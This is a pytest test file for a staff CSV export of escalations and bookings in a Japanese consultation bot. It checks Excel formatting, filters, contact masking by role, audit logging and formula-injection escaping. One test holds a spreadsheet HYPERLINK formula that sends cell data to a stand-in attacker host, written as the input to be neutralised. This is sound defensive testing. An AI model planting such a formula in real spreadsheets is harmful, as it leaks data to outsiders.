"""CSV exports of escalations and bookings on a real database: ready for Excel (BOM, Japanese
headers and labels, Japan time), the list pages' filters without paging, contacts masked by role
with one audit entry for a raw export, and no cell a spreadsheet would run as a formula."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from bot.booking.calendar import free_slots
from bot.booking.models import Booking
from bot.booking.service import BookingRequest, cancel_booking, create_booking
from bot.core.clock import now_tokyo
from bot.core.db import migrate, session_factory, with_retries
from bot.escalation.models import Escalation
from bot.reading.contact import Contact
from bot.staff import escalations, export
from bot.staff.auth import Staff, save_user
from bot.staff.models import AuditEntry

ADMIN = Staff(id=1, email="yamada@example.jp", name="山田", role="admin")
CALLBACKS = Staff(id=2, email="suzuki@example.jp", name="鈴木", role="staff", can_call_back=True)
STAFF = Staff(id=3, email="sato@example.jp", name="佐藤", role="staff")
PHONE, EMAIL = "03-1234-5678", "taro@example.jp"


@pytest.fixture
def session(settings_env):
    migrate()
    with session_factory().begin() as session:
        yield session


def escalation(session, **fields) -> Escalation:
    defaults = {"sender_id": "web-1", "channel": "web", "reason": "requested_human", "priority": "normal"}
    row = Escalation(**{**defaults, **fields})
    session.add(row)
    session.flush()
    return row


def read(body: bytes) -> list[list[str]]:
    """The CSV as Excel reads it: a BOM first, then UTF-8."""
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def exports(session) -> list[AuditEntry]:
    return list(session.scalars(select(AuditEntry).where(AuditEntry.action == export.EXPORTED)))


# --- escalations ----------------------------------------------------------------------------


def test_a_button_that_handed_over_is_exported_as_the_buttons_meaning(session):
    escalation(session, trigger_text="/request_human")
    _, row = read(export.escalations_csv(session, escalations.Filters(), ADMIN))
    assert row[export.ESCALATION_HEADER.index("きっかけの発言")] == "ボタン操作(担当者希望)"


def test_the_escalation_file_has_a_bom_japanese_headers_and_labels_and_japan_time(session):
    save_user(session, STAFF.email, "staff", "correct-horse-battery", STAFF.name)
    escalation(
        session,
        reference="E-7K3M9P",
        channel="line",
        reason="urgent",
        priority="high",
        status="in_progress",
        trigger_text="警告状が届いた",
        contact_name="佐藤花子",
        assigned_to=STAFF.email,
        created_at=datetime(2026, 11, 30, 20, 0, tzinfo=UTC),  # 05:00 on 12/1 in Tokyo
    )
    body = export.escalations_csv(session, escalations.Filters(), STAFF)
    assert b"\r\n" in body  # Excel's line ends
    header, row = read(body)
    assert tuple(header) == export.ESCALATION_HEADER
    assert header[:3] == ["受付番号", "受付日時", "緊急度"]
    assert row == [
        "E-7K3M9P",
        "2026/12/01 05:00",
        "高",
        "対応中",
        "緊急案件",
        "LINE",
        "警告状が届いた",
        "佐藤花子",
        "",
        "",
        "佐藤",
        "",
        "",
    ]


def test_staff_without_the_callbacks_permission_get_contacts_masked_and_nothing_audited(session):
    escalation(session, contact_phone=PHONE, contact_email=EMAIL)
    _, row = read(export.escalations_csv(session, escalations.Filters(), STAFF))
    assert row[8:10] == ["電話 末尾5678", "t***@example.jp"]
    assert PHONE not in ",".join(row) and EMAIL not in ",".join(row)
    assert exports(session) == []


@pytest.mark.parametrize("staff", [ADMIN, CALLBACKS], ids=["admin", "callbacks"])
def test_a_raw_export_shows_contacts_and_is_audited_once_not_per_row(session, staff):
    escalation(session, contact_phone=PHONE)
    escalation(session, sender_id="web-2", contact_email=EMAIL, priority="high")
    escalation(session, sender_id="web-3")
    rows = read(export.escalations_csv(session, escalations.Filters(), staff))[1:]
    assert sorted((r[8], r[9]) for r in rows) == [("", ""), ("", EMAIL), (PHONE, "")]
    [entry] = exports(session)
    assert (entry.actor, entry.target) == (staff.email, "escalations")
    assert entry.detail == "3件 status=active"


def test_a_raw_export_without_any_contact_is_not_audited(session):
    escalation(session)
    export.escalations_csv(session, escalations.Filters(), ADMIN)
    assert exports(session) == []


@pytest.mark.parametrize("typed", ["=1+1", "+81 3 1234", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(typed):
    assert export.cell(typed) == "'" + typed


@pytest.mark.parametrize("value", ["商標の相談", "03-1234-5678", "a=b", "", None])
def test_other_cells_are_kept_as_they_are(value):
    assert export.cell(value) == (value or "")


def test_what_a_visitor_typed_is_never_exported_as_a_formula(session):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    escalation(session, trigger_text=attack, contact_name="@SUM(1+1)")
    _, row = read(export.escalations_csv(session, escalations.Filters(), ADMIN))
    assert row[6:8] == ["'" + attack, "'@SUM(1+1)"]


def test_the_export_honours_the_list_filters_and_has_every_page(session):
    for n in range(escalations.PAGE_SIZE + 5):
        escalation(session, sender_id=f"web-{n}", priority="high" if n % 5 == 0 else "normal")
    escalation(session, sender_id="web-closed", status="closed", priority="high")

    def exported(**params: str) -> list[list[str]]:
        return read(export.escalations_csv(session, escalations.Filters.parse(params), STAFF))[1:]

    assert len(exported()) == escalations.PAGE_SIZE + 5  # unfinished only, like the list
    assert len(exported(status="all", page="2")) == escalations.PAGE_SIZE + 6  # no paging
    assert len(exported(priority="high")) == 11
    assert [r[3] for r in exported(priority="high", status="closed")] == ["完了"]
    created = [r[1] for r in exported(status="all")]
    assert created == sorted(created)  # oldest first
    tomorrow = (now_tokyo().date() + timedelta(days=1)).isoformat()
    assert exported(date_from=tomorrow) == []


# --- the assigned filter ------------------------------------------------------------------


def test_the_assigned_filter_finds_mine_nobodys_or_a_colleagues(session):
    mine = escalation(session, assigned_to=STAFF.email)
    theirs = escalation(session, sender_id="web-2", assigned_to=ADMIN.email)
    nobodys = escalation(session, sender_id="web-3")

    def found(assigned: str) -> set[int]:
        filters = escalations.Filters.parse({"assigned": assigned}, me=STAFF.email)
        return {e.id for e in escalations.list_escalations(session, filters)[0]}

    assert found("me") == {mine.id}
    assert found(ADMIN.email) == {theirs.id}
    assert found("none") == {nobodys.id}
    assert found("") == found("not-an-email") == {mine.id, theirs.id, nobodys.id}


def test_assigned_to_me_means_nothing_when_nobody_is_signed_in():
    assert escalations.Filters.parse({"assigned": "me"}).assigned == ""
    assert escalations.Filters.parse({"assigned": "x@" + "a" * 300}).assigned == ""


# --- bookings -------------------------------------------------------------------------------


def book(session, place: str, phone: str, **fields) -> Booking:
    slot = free_slots(session, place, "general", now_tokyo())[0]
    request = BookingRequest(
        kind_id="general", place_id=place, slot_start=slot.start, contact=Contact(phone=phone), **fields
    )
    return create_booking(session, request)


def test_the_booking_file_honours_status_and_place_and_masks_contacts_by_role(calendar):
    def setup(session) -> tuple[str, str]:
        wanted = book(session, "akihabara", PHONE, topic="trademark", company="-1+1 株式会社")
        cancelled = book(session, "akihabara", "03-5555-0101")
        cancel_booking(session, cancelled)
        book(session, "joto", "03-5555-0202")
        return wanted.number, cancelled.number

    wanted, cancelled = with_retries(setup)
    masked = read(with_retries(lambda s: export.bookings_csv(s, "booked", "akihabara", STAFF)))
    assert tuple(masked[0]) == export.BOOKING_HEADER
    [row] = masked[1:]
    assert row[0] == wanted
    assert re.fullmatch(r"2026/11/\d\d \d\d:00", row[1])  # the slot, in Tokyo wall-clock time
    assert row[2:8] == [
        "60",
        "予約済み",
        "秋葉原本部",
        "知的財産相談(アドバイザー)",
        "商標",
        "'-1+1 株式会社",
    ]
    assert row[9:11] == ["電話 末尾5678", ""]

    everything = read(with_retries(lambda s: export.bookings_csv(s, "", "", ADMIN)))[1:]
    assert len(everything) == 3
    assert {r[3] for r in everything if r[0] == cancelled} == {"キャンセル"}
    assert PHONE in {r[9] for r in everything}
    entries = with_retries(lambda s: [(e.actor, e.target, e.detail) for e in exports(s)])
    assert entries == [(ADMIN.email, "bookings", "3件")]


# --- the routes -----------------------------------------------------------------------------


def test_a_staff_member_downloads_a_masked_file_of_their_own_cases(client):
    client.follow_redirects = False
    with_retries(lambda s: save_user(s, STAFF.email, "staff", "correct-horse-battery", STAFF.name))
    with_retries(lambda s: escalation(s, assigned_to=STAFF.email, contact_phone=PHONE))
    with_retries(lambda s: escalation(s, sender_id="web-2", contact_phone="03-9999-0000"))
    login = client.get("/staff/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', login.text).group(1)
    client.post(
        "/staff/login", data={"email": STAFF.email, "password": "correct-horse-battery", "csrf_token": token}
    )
    page = client.get("/staff/escalations?assigned=me").text
    assert '<option value="me" selected>自分</option>' in page
    assert 'href="/staff/escalations.csv?assigned=me"' in page

    response = client.get("/staff/escalations.csv?assigned=me")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="escalations-')
    assert response.headers["cache-control"] == "no-store"
    [row] = read(response.content)[1:]
    assert row[8] == "電話 末尾5678"
